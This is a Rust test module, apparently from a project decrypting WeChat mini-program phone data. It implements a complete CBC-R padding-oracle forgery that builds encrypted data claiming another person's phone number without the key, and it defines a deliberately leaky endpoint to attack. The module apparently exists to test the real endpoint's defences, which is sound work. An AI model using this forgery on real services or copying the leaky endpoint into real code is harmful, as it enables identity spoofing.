//! CBC-R (Rizzo and Duong, "Practical Padding Oracle Attacks", 2010): whoever is told that padding is wrong encrypts any text
//! without the key.
//!
//! `encryptedData` carries no MAC, and `{"phoneNumber":"` is one block, so that the digits begin with the second. The forger
//! compares answers and understands none of them.

use aws_lc_rs::{
    cipher::{AES_128, DecryptionContext, PaddedBlockDecryptingKey, UnboundCipherKey},
    iv::FixedLength,
};
use base64::{Engine as _, engine::general_purpose::STANDARD};
use serde_json::{Value, json};
use shared::{
    ids::{AppId, OpenId},
    secret_text::{SessionKey, SessionKeys},
    wechat::opendata::{self, Ciphertext},
};

use crate::{APPID, seeded::Seeded};

const BLOCK: usize = 16;
type Block = [u8; BLOCK];

/// The encrypted data that a button of WeChat gives.
#[derive(Clone, Debug)]
pub struct Data {
    iv: Block,
    blocks: Vec<u8>,
}

impl Data {
    /// As the mini program sends it.
    pub fn body(&self) -> Value {
        json!({ "encryptedData": STANDARD.encode(&self.blocks), "iv": STANDARD.encode(self.iv) })
    }
}

/// The plaintext with somebody else's number.
pub fn wanted() -> String {
    let number = "13900139000";
    format!(
        r#"{{"phoneNumber":"{number}","purePhoneNumber":"{number}","countryCode":"86","watermark":{{"timestamp":1800000000,"appid":"{APPID}"}}}}"#
    )
}

/// Data that reads as `text`, found by asking; nothing once the answers tell nothing.
pub async fn forge(text: &str, random: &mut Seeded, ask: &mut impl AsyncFnMut(&Data) -> String) -> Option<Data> {
    // One answer in 256 to random data is another one, so that two in agreement are the usual one.
    let usual = loop {
        let [one, two] = [(); 2].map(|()| Data { iv: block(random), blocks: block(random).to_vec() });
        let answer = ask(&one).await;
        if answer == ask(&two).await {
            break answer;
        }
    };
    let mut after = block(random);
    let mut blocks = vec![after];
    for text in padded(text).iter().rev() {
        let decrypted = decrypted(after, &usual, random, ask).await?;
        after = std::array::from_fn(|at| decrypted[at] ^ text[at]);
        blocks.push(after);
    }
    let iv = blocks.pop()?;
    Some(Data { iv, blocks: blocks.into_iter().rev().flatten().collect() })
}

/// What the key makes of a block, before CBC adds the block that precedes it: byte by byte from the last one, each time
/// with the IV that makes the padding right.
async fn decrypted(
    block: Block,
    usual: &str,
    random: &mut Seeded,
    ask: &mut impl AsyncFnMut(&Data) -> String,
) -> Option<Block> {
    let mut known = [0; BLOCK];
    let mut data = Data { iv: self::block(random), blocks: block.to_vec() };
    for (at, padding) in (0..BLOCK).rev().zip(1_u8..) {
        for (byte, known) in data.iv.iter_mut().zip(known).skip(at + 1) {
            *byte = known ^ padding;
        }
        let mut found = None;
        for guess in 0..=u8::MAX {
            data.iv[at] = guess;
            if ask(&data).await != usual && (at < BLOCK - 1 || is_one(&data, usual, ask).await) {
                found = Some(guess);
                break;
            }
        }
        known[at] = found? ^ padding;
    }
    Some(known)
}

/// Whether the right padding is 1, and not 2 twice by chance: then the byte before it does not matter.
async fn is_one(data: &Data, usual: &str, ask: &mut impl AsyncFnMut(&Data) -> String) -> bool {
    let mut other = data.clone();
    other.iv[BLOCK - 2] ^= 1;
    ask(&other).await != usual
}

fn block(random: &mut Seeded) -> Block {
    std::array::from_fn(|_| random.number().to_le_bytes()[0])
}

/// The text with PKCS#7 padding.
fn padded(text: &str) -> Vec<Block> {
    let padding = BLOCK - text.len() % BLOCK;
    let bytes: Vec<u8> = text.bytes().chain(std::iter::repeat_n(padding.to_le_bytes()[0], padding)).collect();
    bytes.chunks_exact(BLOCK).map(|chunk| chunk.try_into().expect("a block")).collect()
}

/// An endpoint as ours must not be: it reads what ours reads, and says so when the padding is wrong.
pub fn leaky(key: &SessionKey, data: &Data) -> String {
    let aes_key = key.aes_key().expect("an AES key");
    let cipher =
        UnboundCipherKey::new(&AES_128, &*aes_key).and_then(PaddedBlockDecryptingKey::cbc_pkcs7).expect("a cipher");
    let iv = DecryptionContext::Iv128(FixedLength::from(&data.iv));
    if cipher.decrypt(&mut data.blocks.clone(), iv).is_err() {
        return "the padding is wrong".to_owned();
    }
    let (body, keys) = (data.body(), SessionKeys { current: Some(key.clone()), previous: None });
    let given = |member: &str| body[member].as_str().expect("text");
    let data = Ciphertext::parse(given("encryptedData"), given("iv")).expect("whole blocks");
    let openid = OpenId::parse("o").expect("an openid");
    match opendata::phone(&data, &keys, &AppId::parse(APPID).expect("an appid"), &openid) {
        Ok(phone) => serde_json::to_value(phone).expect("JSON")["phoneNumber"].to_string(),
        Err(_) => "it cannot be read".to_owned(),
    }
}
